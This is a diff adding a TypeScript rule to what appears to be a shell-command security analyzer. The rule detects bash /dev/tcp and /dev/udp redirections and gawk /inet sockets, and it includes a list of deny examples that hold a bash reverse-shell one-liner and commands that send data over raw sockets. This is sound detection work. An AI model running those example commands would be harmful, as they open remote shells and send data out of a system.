@@ -1,0 +1,80 @@
+// egress.dev-tcp: a redirection bash turns into a socket (/dev/tcp, /dev/udp), or gawk's /inet special files.
+import type { Finding } from '../types.js';
+import { componentCouldBe, resolvePath } from './paths.js';
+import type { Rule } from './rule.js';
+import { display, markDynamic, markGlob, programName } from './words.js';
+
+const SOCKET_OPS = new Set(['>', '>>', '<', '<>', '>|', '&>', '&>>', '>&', '<&']);
+const GAWK_INET = /\/inet[46]?\/(tcp|udp)\//i;
+
+export const egressDevTcp: Rule = {
+  id: 'egress.dev-tcp',
+  kind: 'egress',
+  description: 'A redirection to /dev/tcp/* or /dev/udp/*: bash opens the socket itself, no network binary is involved.',
+  examples: {
+    deny: [
+      'exec 3<>/dev/tcp/example.com/80',
+      'cat < /dev/tcp/example.com/80',
+      'echo hi > /dev/tcp/10.0.0.1/4444',
+      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      'echo x > /dev/udp/10.0.0.1/53',
+      'exec 5<>"/dev/tcp/$HOST/$PORT"',
+      'H=example.com; exec 3<>/dev/tcp/$H/80',
+      "sh -c 'echo data > /dev/tcp/example.com/9'",
+      'echo hi >>/dev/tcp/example.com/9',
+      'timeout 2 cat 0</dev/tcp/example.com/22',
+      'cat < /dev//tcp/example.com/80',
+      'gawk \'BEGIN { s = "/inet/tcp/0/example.com/80"; print "GET /" |& s }\'',
+    ],
+    pass: [
+      'ls /dev/tcp',
+      'echo /dev/tcp/example.com/80',
+      'cat /dev/null',
+      'echo x > /dev/null',
+      'grep tcp /etc/services',
+      'echo done > tcp.log',
+      'netstat -tn',
+      'echo oops 2>/dev/stderr',
+      'exec 3>/tmp/devtcp',
+      'ss -tlnp',
+      "awk '{print $1}' /var/log/inet.log",
+    ],
+  },
+  check({ analysis }) {
+    const findings: Finding[] = [];
+    analysis.segments.forEach((seg, index) => {
+      for (const r of seg.redirects) {
+        const t = r.target;
+        if (!t || !SOCKET_OPS.has(r.op)) continue;
+        const ctx = { cwd: seg.cwd, home: analysis.home, dialect: seg.dialect };
+        const paths = t.values === null ? [markDynamic(t.text, ctx)] : t.values.map((v) => (t.glob ? markGlob(v) : v));
+        const socket = paths
+          .map((p) => resolvePath(p, ctx))
+          .find((p) => componentCouldBe(p, 0, 'dev') && (componentCouldBe(p, 1, 'tcp') || componentCouldBe(p, 1, 'udp')));
+        if (socket === undefined) continue;
+        findings.push({
+          rule: 'egress.dev-tcp',
+          kind: 'egress',
+          message: `redirection to ${display(t)} opens a network socket (/dev/tcp, /dev/udp)`,
+          span: r.span,
+          segment: index,
+        });
+      }
+    });
+    for (const inv of analysis.invocations) {
+      const name = programName(inv);
+      if (name !== 'gawk' && name !== 'awk') continue;
+      const word = inv.args.find((w) => (w.values ?? [w.text]).some((v) => GAWK_INET.test(v)));
+      if (word) {
+        findings.push({
+          rule: 'egress.dev-tcp',
+          kind: 'egress',
+          message: `${inv.program} opens a network socket through ${GAWK_INET.exec((word.values ?? [word.text]).join(' '))?.[0]} (gawk /inet special file)`,
+          span: word.span,
+          segment: inv.segment,
+        });
+      }
+    }
+    return findings;
+  },
+};
